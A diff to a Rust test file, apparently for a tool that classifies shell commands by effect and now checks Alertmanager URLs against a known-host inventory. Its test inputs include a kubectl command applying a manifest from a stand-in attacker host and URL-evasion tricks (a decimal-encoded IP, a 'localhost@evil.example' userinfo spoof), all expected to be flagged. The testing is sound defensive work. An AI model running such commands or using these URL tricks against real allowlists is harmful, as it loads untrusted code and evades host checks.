@@ -2,7 +2,7 @@ use super::*;
 
 fn understood(line: &str) -> Understood {
     let argv = crate::gate::lexer::split(line).unwrap_or_else(|error| panic!("{line}: {error}"));
-    understand(&argv)
+    understand(&argv, &Inventory::default())
 }
 
 fn effect(line: &str) -> Effect {
@@ -84,4 +84,14 @@ fn how_far_it_reaches_is_noted() {
             .any(|note| note.contains("monitoring"))
     );
     assert_eq!(effect("kubectl apply -f https://evil.example/x.yaml"), Effect::Opaque);
+}
+
+#[test]
+fn an_end_point_must_lie_in_the_house_or_be_known() {
+    assert_eq!(effect("amtool alert query --alertmanager.url=http://alertmanager:9093"), Effect::Read);
+    assert_eq!(effect("amtool alert query --alertmanager.url=https://am.example"), Effect::Opaque);
+    assert_eq!(effect("amtool alert query --alertmanager.url=http://2130706433/"), Effect::Opaque);
+    assert_eq!(effect("amtool alert query --alertmanager.url=http://localhost@evil.example/"), Effect::Opaque);
+    let argv: Vec<String> = ["amtool", "alert", "--alertmanager.url=https://am.example"].map(str::to_owned).into();
+    assert_eq!(understand(&argv, &Inventory::from_iter(["am.example"])).effect, Effect::Read);
 }
